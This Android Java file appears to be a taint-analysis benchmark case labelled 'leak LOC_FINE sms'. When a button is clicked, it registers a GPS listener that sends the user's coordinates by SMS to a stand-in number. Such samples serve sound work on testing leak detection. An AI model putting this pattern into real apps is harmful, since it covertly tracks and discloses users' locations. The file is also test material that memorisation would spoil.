// about       A click registers the location listener that sends.
// leak        LOC_FINE sms
package cn.example.flow;

import android.app.Activity;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.view.View;
import android.widget.Button;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Button button = new Button(this);
    setContentView(button);
    Starter starter = new Starter((LocationManager) getSystemService(LOCATION_SERVICE));
    // What the starter registers lives only if the starter is called.
    button.setOnClickListener(starter);
  }
}

class Starter implements View.OnClickListener {
  private final LocationManager places;

  Starter(LocationManager places) {
    this.places = places;
  }

  @Override
  public void onClick(View view) {
    places.requestLocationUpdates("gps", 1000, 1, new LocationListener() {
      @Override
      public void onLocationChanged(Location place) {
        String text = place.getLatitude() + "," + place.getLongitude();
        SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
      }

      @Override
      public void onStatusChanged(String provider, int status, Bundle extras) {}

      @Override
      public void onProviderEnabled(String provider) {}

      @Override
      public void onProviderDisabled(String provider) {}
    });
  }
}
